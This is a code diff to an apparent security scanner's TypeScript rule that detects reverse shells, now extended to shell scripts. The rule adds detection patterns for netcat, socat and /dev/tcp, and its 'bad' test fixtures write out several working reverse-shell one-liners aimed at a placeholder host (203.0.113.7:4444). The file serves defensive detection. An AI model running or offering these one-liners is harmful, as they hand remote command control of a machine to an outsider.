@@ -1,15 +1,16 @@
-import { any, anyArgument, argument, call, from, matches, says } from "../match.ts";
+import { all, any, anyArgument, argument, call, from, matches, says, words } from "../match.ts";
 import { defineRule } from "../rule.ts";
 import { REVERSE_SHELL, SHELL_PROGRAM } from "../vocabulary/commands.ts";
 import { COMMANDS } from "../vocabulary/execution-calls.ts";
-import { socketDescriptor } from "../vocabulary/sources.ts";
+import { SHELL_CODE, SHOWN_CODE } from "../vocabulary/shell-commands.ts";
+import { shellConnection, shellOutput, socketDescriptor } from "../vocabulary/sources.ts";
 
 export default defineRule({
   id: "reverse-shell",
   category: "suspicious_network",
   severity: "critical",
   confidence: "high",
-  languages: ["python"],
+  languages: ["python", "shell"],
   title: "a shell is tied to a network connection",
   why: "Whoever is at the other end types commands on this machine.",
   fix: "Remove it; no skill needs this.",
@@ -22,6 +23,23 @@ export default defineRule({
       where: any(...["stdin", "stdout", "stderr"].map((stream) => argument(stream, from(socketDescriptor)))),
     }),
     call({ of: ["pty.spawn"], where: argument(0, matches(SHELL_PROGRAM)) }),
+    call({
+      of: ["sh.>", "sh.>>"],
+      where: all(
+        any(argument(0, says(/^\/dev\/(tcp|udp)\//)), argument(0, from(shellConnection))),
+        argument("stdin", from(shellOutput)),
+      ),
+    }),
+    call({ of: [...SHELL_CODE, ...SHOWN_CODE], where: argument(0, from(shellConnection)) }),
+    call({
+      of: ["sh.nc", "sh.ncat", "sh.netcat", "sh.telnet", "sh.openssl.s_client"],
+      where: argument("stdin", from(shellOutput)),
+    }),
+    call({
+      of: ["sh.nc.-e", "sh.nc.-c", "sh.ncat.-e", "sh.ncat.-c", "sh.ncat.--exec", "sh.ncat.--sh-exec", "sh.netcat.-e"],
+      where: argument(0, says(/^[\w/]*(sh|bash|zsh|dash|cmd(\.exe)?|powershell)(\s|$)/)),
+    }),
+    call({ of: ["sh.socat"], where: words(says(/(exec|system):["']?[\w/]*(sh|bash|zsh)(\W|$)/i)) }),
   ],
   bad: [
     'import os\nos.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")',
@@ -29,10 +47,18 @@ export default defineRule({
     'import pty\npty.spawn("/bin/bash")',
     'import subprocess, socket\ns = socket.create_connection(a)\nsubprocess.Popen(["/bin/sh"], stdin=s.fileno())',
     'import subprocess\nsubprocess.run(["nc", "-e", "/bin/sh", "203.0.113.7", "4444"])',
+    { "run.sh": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
+    { "run.sh": "exec 5<>/dev/tcp/203.0.113.7/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done" },
+    { "run.sh": "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f" },
+    { "run.sh": "nc -e /bin/sh 203.0.113.7 4444" },
+    { "run.sh": "socat tcp:203.0.113.7:4444 exec:bash,pty" },
   ],
   good: [
     "import os\nos.dup2(log.fileno(), 1)",
     'import subprocess\nsubprocess.run(["bash", "-c", "ls"])',
     'import os\nos.system("ls -i")',
+    { "run.sh": 'timeout 1 bash -c "</dev/tcp/localhost/5432" && echo up' },
+    { "run.sh": "nc -z localhost 5432" },
+    { "run.sh": "echo ok > /dev/tcp/localhost/8125" },
   ],
 });
